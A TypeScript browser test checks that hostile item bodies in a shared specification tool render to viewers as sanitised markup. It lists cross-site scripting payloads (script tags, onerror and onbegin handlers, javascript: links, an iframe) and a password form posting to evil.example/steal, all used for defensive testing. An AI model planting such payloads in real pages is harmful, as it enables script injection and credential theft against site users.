import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { setupTestEnv } from '../helpers/app.js';
import {
  addMember,
  createItem,
  createProject,
  createSpecification,
  createUser,
} from '../helpers/factories.js';
import { NO_CONSOLE_TESTS, signIn, startConsole, type ConsoleRig } from './helpers.js';

// An item body is written by one member and rendered in another's browser: whatever it holds,
// no script of it may run there. A hostile editor writes bodies; a viewer opens them.
const skip = NO_CONSOLE_TESTS;
const env = await setupTestEnv();
let rig: ConsoleRig;

before(async () => {
  if (!skip) rig = await startConsole(env);
});
after(async () => {
  if (!skip) await rig.close();
});

const HOSTILE = [
  '# Looks harmless',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '[click me](javascript:window.__pwned=%22link%22)',
  '<a href="javascript:window.__pwned=1">raw link</a>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '<svg><animate onbegin="window.__pwned=\'svg\'" attributeName="x" dur="1s"/></svg>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '**bold** stays bold, and [a real link](https://example.com) stays a link.',
].join('\n\n');

test('a hostile item body renders as text and markup only, never as script', { skip }, async () => {
  const owner = await createUser(rig.app);
  const viewer = await createUser(rig.app);
  const project = await createProject(rig.app, owner, { name: 'Shared', key: 'SHR' });
  await addMember(rig.app, owner, project.id, viewer, 'viewer');
  const spec = await createSpecification(rig.app, owner, project.id, { title: 'Shared spec' });
  await createItem(rig.app, owner, spec.id, { title: 'Hostile', body: HOSTILE });

  // Without the page's content security policy: what stops the body is the sanitiser alone.
  const { page } = await rig.newPage({ withoutCsp: true });
  await signIn(page, viewer);
  await page.goto(`/specifications/${spec.id}`);
  await page.getByRole('button', { name: /SHR-1 Hostile/ }).click();
  await page.getByRole('button', { name: 'Preview' }).click();
  const preview = page.getByRole('region', { name: 'Body preview' });
  await preview.getByText('bold', { exact: true }).waitFor();
  await page.waitForTimeout(1500); // time for an onerror or an animation to fire

  assert.equal(await page.evaluate('window.__pwned'), undefined, 'nothing of the body ran');
  const html = await preview.innerHTML();
  const forbidden = ['<script', 'onerror', 'onbegin', 'javascript:', '<iframe', '<form', '<input'];
  for (const tag of forbidden) {
    assert.ok(!html.includes(tag), `${tag} is gone from the rendered body`);
  }
  assert.equal(await preview.locator('strong').first().textContent(), 'bold');
  const link = preview.getByRole('link', { name: 'a real link' });
  assert.equal(await link.getAttribute('href'), 'https://example.com');
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
  // A viewer reads but cannot change it.
  assert.equal(await page.getByRole('button', { name: 'Save' }).count(), 0);
  await rig.done(page);
});
